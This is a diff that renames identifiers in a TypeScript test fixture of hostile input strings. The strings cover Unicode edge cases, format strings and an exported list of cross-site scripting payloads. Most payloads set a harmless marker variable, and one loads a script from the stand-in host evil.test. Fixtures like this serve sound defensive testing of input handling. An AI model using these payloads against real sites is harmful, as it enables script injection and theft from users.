@@ -1,39 +1,46 @@
-/* Strings that break those who take text for something else, made by families. */
-const code = (...points: readonly number[]) => String.fromCodePoint(...points);
-const words = ['Budi', 'Rp1.000', 'a b'];
-const around = (marks: readonly string[]) =>
-  marks.flatMap((mark) => words.map((word) => `${word.slice(0, 2)}${mark}${word.slice(2)}`));
-const span = (from: number, to: number) =>
+/* Strings that break code which takes text for something else, in families. */
+const fromCodePoints = (...points: readonly number[]) => String.fromCodePoint(...points);
+const samples = ['Budi', 'Rp1.000', 'a b'];
+const insideSamples = (marks: readonly string[]) =>
+  marks.flatMap((mark) => samples.map((word) => `${word.slice(0, 2)}${mark}${word.slice(2)}`));
+const range = (from: number, to: number) =>
   Array.from({ length: to - from + 1 }, (_, at) => from + at);
 
 const families: Readonly<Record<string, readonly string[]>> = {
-  'control characters': span(0, 31)
+  'control characters': range(0, 31)
     .filter((point) => point !== 13)
-    .map((point) => `a${code(point)}b`)
-    .concat(span(127, 159).map((point) => `a${code(point)}b`)),
-  'without a width': around([
-    code(0x200b),
-    code(0x200c),
-    code(0x200d),
-    code(0x2060),
-    code(0xfeff),
-    code(0xad),
-    code(0x180e),
+    .map((point) => `a${fromCodePoints(point)}b`)
+    .concat(range(127, 159).map((point) => `a${fromCodePoints(point)}b`)),
+  'without a width': insideSamples([
+    fromCodePoints(0x200b),
+    fromCodePoints(0x200c),
+    fromCodePoints(0x200d),
+    fromCodePoints(0x2060),
+    fromCodePoints(0xfeff),
+    fromCodePoints(0xad),
+    fromCodePoints(0x180e),
   ]),
-  'other spaces': around([
-    code(0xa0),
-    code(0x2003),
-    code(0x3000),
-    code(0x2028),
-    code(0x2029),
-    code(0x85),
+  'other spaces': insideSamples([
+    fromCodePoints(0xa0),
+    fromCodePoints(0x2003),
+    fromCodePoints(0x3000),
+    fromCodePoints(0x2028),
+    fromCodePoints(0x2029),
+    fromCodePoints(0x85),
   ]),
-  'from the right': [
-    ...around([code(0x202e), code(0x202d), code(0x2066), code(0x2067), code(0x200f), code(0x61c)]),
+  'right to left': [
+    ...insideSamples([
+      fromCodePoints(0x202e),
+      fromCodePoints(0x202d),
+      fromCodePoints(0x2066),
+      fromCodePoints(0x2067),
+      fromCodePoints(0x200f),
+      fromCodePoints(0x61c),
+    ]),
     'مرحبا بك',
     'שלום עולם',
     'مرحبا Budi 123',
-    `${code(0x202e)}000.1pR`,
+    `${fromCodePoints(0x202e)}000.1pR`,
     'ثم نفس سقطت وبالتحديد،',
   ],
   SQL: [
@@ -99,7 +106,7 @@ const families: Readonly<Record<string, readonly string[]>> = {
     '%1$n',
     '%*.*s',
   ],
-  'words of programmes': [
+  'words of programming languages': [
     'null',
     'undefined',
     'NaN',
@@ -154,16 +161,16 @@ const families: Readonly<Record<string, readonly string[]>> = {
     '🏴󠁧󠁢󠁥󠁮󠁧󠁿',
     '💩'.repeat(50),
     '😀a😀',
-    code(0xfe0f),
-    code(0x1f1ee),
+    fromCodePoints(0xfe0f),
+    fromCodePoints(0x1f1ee),
     '👍🏽',
     '⌚',
     '🈁',
     '㊗️',
     '🅰️',
   ],
-  'marks on marks': span(1, 20).map(
-    (count) => `Z${code(0x335, 0x327, 0x31b, 0x300, 0x32f).repeat(count)}o`,
+  'stacked accents': range(1, 20).map(
+    (count) => `Z${fromCodePoints(0x335, 0x327, 0x31b, 0x300, 0x32f).repeat(count)}o`,
   ),
   scripts: [
     '田中さん',
@@ -203,17 +210,17 @@ const families: Readonly<Record<string, readonly string[]>> = {
     '⸻',
     '﷽',
   ],
-  halves: [
-    code(0xd800),
-    code(0xdfff),
-    `a${code(0xd83d)}`,
-    `${code(0xde00)}b`,
-    code(0xfffe),
-    code(0xffff),
-    code(0xfffd),
-    code(0x10ffff),
-    code(0xe000),
-    code(0x1fffe),
+  'lone surrogates': [
+    fromCodePoints(0xd800),
+    fromCodePoints(0xdfff),
+    `a${fromCodePoints(0xd83d)}`,
+    `${fromCodePoints(0xde00)}b`,
+    fromCodePoints(0xfffe),
+    fromCodePoints(0xffff),
+    fromCodePoints(0xfffd),
+    fromCodePoints(0x10ffff),
+    fromCodePoints(0xe000),
+    fromCodePoints(0x1fffe),
   ],
   'very long': [
     ...['a', 'W', 'i', 'ab ', '-', '.', '_', '1', '😀', 'م', '\u00ad', '\u200b', '\t', '&'].map(
@@ -304,51 +311,51 @@ const families: Readonly<Record<string, readonly string[]>> = {
   ],
 };
 
-const run = 'window.slipped=1';
-export const scripts: readonly string[] = [
-  `<script>${run}</script>`,
-  `<ScRiPt>${run}</sCrIpT>`,
+const payload = 'window.slipped=1';
+export const scriptInjections: readonly string[] = [
+  `<script>${payload}</script>`,
+  `<ScRiPt>${payload}</sCrIpT>`,
   `<script src=//evil.test></script>`,
-  `<script\n>${run}</script\n>`,
-  `"><script>${run}</script>`,
-  `'><script>${run}</script>`,
-  `</script><script>${run}</script>`,
-  `<<script>${run}//<</script>`,
-  `<img src=x onerror=${run}>`,
-  `<img src="x" onerror="${run}">`,
-  `"><img src=x onerror=${run}>`,
-  `<img/src=x/onerror=${run}>`,
-  `<image src=x onerror=${run}>`,
-  `<svg onload=${run}>`,
-  `<svg/onload=${run}>`,
-  `<svg><script>${run}</script></svg>`,
-  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
-  `<body onload=${run}>`,
-  `<iframe srcdoc="<script>parent.${run}</script>">`,
-  `<iframe src="javascript:parent.${run}">`,
-  `<object data="data:text/html,<script>${run}</script>">`,
-  `<embed src="javascript:${run}">`,
-  `<a href="javascript:${run}">x</a>`,
-  `javascript:${run}`,
-  `jAvAsCrIpT:${run}`,
-  `java\tscript:${run}`,
-  `data:text/html,<script>${run}</script>`,
-  `<details open ontoggle=${run}>`,
-  `<input onfocus=${run} autofocus>`,
-  `<select onfocus=${run} autofocus>`,
-  `<video src=x onerror=${run}>`,
-  `<audio src=x onerror=${run}>`,
-  `<math><mtext></mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${run}>">`,
-  `" onmouseover="${run}`,
-  `' onfocus='${run}' autofocus='`,
-  `\` onerror=\`${run}`,
-  `{{constructor.constructor('${run}')()}}`,
-  `\${${run}}`,
-  `<style>@import "javascript:${run}";</style>`,
-  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
-  `<x style="animation-name:x" onanimationstart="${run}">`,
-  `%3Cscript%3E${run}%3C/script%3E`,
-  `&lt;script&gt;${run}&lt;/script&gt;`,
-  `\\u003cscript\\u003e${run}`,
+  `<script\n>${payload}</script\n>`,
+  `"><script>${payload}</script>`,
+  `'><script>${payload}</script>`,
+  `</script><script>${payload}</script>`,
+  `<<script>${payload}//<</script>`,
+  `<img src=x onerror=${payload}>`,
+  `<img src="x" onerror="${payload}">`,
+  `"><img src=x onerror=${payload}>`,
+  `<img/src=x/onerror=${payload}>`,
+  `<image src=x onerror=${payload}>`,
+  `<svg onload=${payload}>`,
+  `<svg/onload=${payload}>`,
+  `<svg><script>${payload}</script></svg>`,
+  `<svg><animate onbegin=${payload} attributeName=x dur=1s>`,
+  `<body onload=${payload}>`,
+  `<iframe srcdoc="<script>parent.${payload}</script>">`,
+  `<iframe src="javascript:parent.${payload}">`,
+  `<object data="data:text/html,<script>${payload}</script>">`,
+  `<embed src="javascript:${payload}">`,
+  `<a href="javascript:${payload}">x</a>`,
+  `javascript:${payload}`,
+  `jAvAsCrIpT:${payload}`,
+  `java\tscript:${payload}`,
+  `data:text/html,<script>${payload}</script>`,
+  `<details open ontoggle=${payload}>`,
+  `<input onfocus=${payload} autofocus>`,
+  `<select onfocus=${payload} autofocus>`,
+  `<video src=x onerror=${payload}>`,
+  `<audio src=x onerror=${payload}>`,
+  `<math><mtext></mtext><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=${payload}>">`,
+  `" onmouseover="${payload}`,
+  `' onfocus='${payload}' autofocus='`,
+  `\` onerror=\`${payload}`,
+  `{{constructor.constructor('${payload}')()}}`,
+  `\${${payload}}`,
+  `<style>@import "javascript:${payload}";</style>`,
+  `<noscript><p title="</noscript><img src=x onerror=${payload}>">`,
+  `<x style="animation-name:x" onanimationstart="${payload}">`,
+  `%3Cscript%3E${payload}%3C/script%3E`,
+  `&lt;script&gt;${payload}&lt;/script&gt;`,
+  `\\u003cscript\\u003e${payload}`,
 ];
-export const nasty: readonly string[] = [...new Set(Object.values(families).flat())];
+export const hostileStrings: readonly string[] = [...new Set(Object.values(families).flat())];
